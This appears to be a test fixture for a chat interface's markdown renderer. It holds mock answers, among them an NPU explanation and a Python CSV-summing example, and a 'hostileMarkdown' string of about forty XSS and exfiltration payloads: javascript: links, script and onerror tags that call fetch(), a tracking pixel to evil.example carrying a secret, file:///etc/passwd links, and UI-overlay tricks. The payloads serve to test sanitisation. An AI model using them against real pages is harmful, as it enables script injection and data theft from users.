// Answers of the mock.

export const shortAnswer = `An NPU does one thing very well: **many small multiplications at little power**.

1. A CPU is quick at anything, but spends much of its energy on deciding what to do next.
2. An NPU keeps the model's weights close to rows of multipliers and runs them all at once.
3. So a short prompt on the NPU leaves the CPU, the fan and the battery alone.
`;

export const longAnswer = `## Reading a CSV file and adding up its columns

Here is a small program. It takes the *first line* as names and ignores cells that are no numbers; see \`csv.DictReader\` for what it does with quotes.

\`\`\`python
import csv
import sys
from collections import defaultdict


def sums(path: str) -> dict[str, float]:
    """Adds up each numeric column of a CSV file."""
    total: dict[str, float] = defaultdict(float)
    with open(path, newline="", encoding="utf-8") as file:
        for row in csv.DictReader(file):
            for name, cell in row.items():
                try:
                    total[name] += float(cell)
                except (TypeError, ValueError):
                    continue  # a cell without a number
    return dict(total)


if __name__ == "__main__":
    for name, value in sums(sys.argv[1]).items():
        print(f"{name:>20} {value:12.2f}")
\`\`\`

Run it like this:

\`\`\`bash
python3 sums.py prices.csv | sort -k2 -n
\`\`\`

### How the pieces compare

| Way | Lines | Memory | When |
|:--|--:|:-:|:--|
| \`csv\` | 20 | one row | always there |
| \`pandas\` | 3 | whole file | you have it anyway |
| \`awk\` | 1 | one row | no quotes in the file |

> A file with quotes and line breaks inside cells is where the one-liner in awk ends.

Some notes:

- The numbers are added as binary fractions; for money take \`decimal.Decimal\`.
- A column that is missing in some rows is fine.
  - So is an empty file: the result is empty.
- Documentation: [the csv module](https://docs.python.org/3/library/csv.html), and https://example.org/rfc4180 for the format.

Emoji and scripts come through whole: 🌍 👩‍👩‍👧 é 漢字.
`;

/** Forty lines that try to leave the page, load something, run something or look like the window itself. LEAK stands for a server. */
export const hostileMarkdown = `![pixel](http://127.0.0.1:LEAK/pixel.png)
![](https://evil.example/track.gif?q=secret)
[click](javascript:alert(1))
[data](data:text/html,<script>alert(1)</script>)
[search](search-ms:query=x&crumb=location:\\\\evil\\s)
[vscode](vscode://file/etc/passwd)
[file](file:///etc/passwd)
[unc](\\\\evil\\share)
[blob](blob:http://127.0.0.1:LEAK/x)
[relative](/ui/chats)
[slash](//evil.example/x)
[js-tab](java	script:alert(1))
[entity](&#106;avascript:alert(1))
[real](http://127.0.0.1:LEAK/linked?a=(b))
<http://127.0.0.1:LEAK/auto>
<javascript:alert(1)>

<img src="http://127.0.0.1:LEAK/img.png" onerror="fetch('http://127.0.0.1:LEAK/onerror')">
<script>location='http://127.0.0.1:LEAK/script'</script>
<iframe src="http://127.0.0.1:LEAK/frame"></iframe>
<meta http-equiv="refresh" content="0;url=http://127.0.0.1:LEAK/refresh">
<base href="http://127.0.0.1:LEAK/base/">
<link rel="stylesheet" href="http://127.0.0.1:LEAK/style.css">
<form action="http://127.0.0.1:LEAK/form"><button>Go</button></form>
<style>body{background:url(http://127.0.0.1:LEAK/css)}</style>
<svg onload="alert(1)"><use href="http://127.0.0.1:LEAK/use#x"/></svg>
<video src="http://127.0.0.1:LEAK/video" autoplay></video>
<object data="http://127.0.0.1:LEAK/object"></object>
<a href="http://127.0.0.1:LEAK/a" target="_top">x</a>
<div class="composer" style="position:fixed;inset:0">overlay</div>

\`\`\`"><img src=x onerror=alert(1)>
<img src="http://127.0.0.1:LEAK/code.png">
\`\`\`

\`\`\`html
<img src="http://127.0.0.1:LEAK/html.png" onerror="alert(1)"><script>alert(2)</script>
\`\`\`

| a <img src=x onerror=alert(1)> | [t](javascript:alert(1)) |
|---|---|
| ![t](http://127.0.0.1:LEAK/table.png) | \u202Egnp.exe |

[ref]: http://127.0.0.1:LEAK/ref "onmouseover=alert(1)"
![by reference][ref] and [a link][ref]
`;

export const thoughts =
  `The user asks what an NPU does better than a CPU. I should name the two things that matter: energy for each token, and that ` +
  `the CPU stays free. <b>No</b> figures: I do not know this machine.

Three sentences, then stop.`;
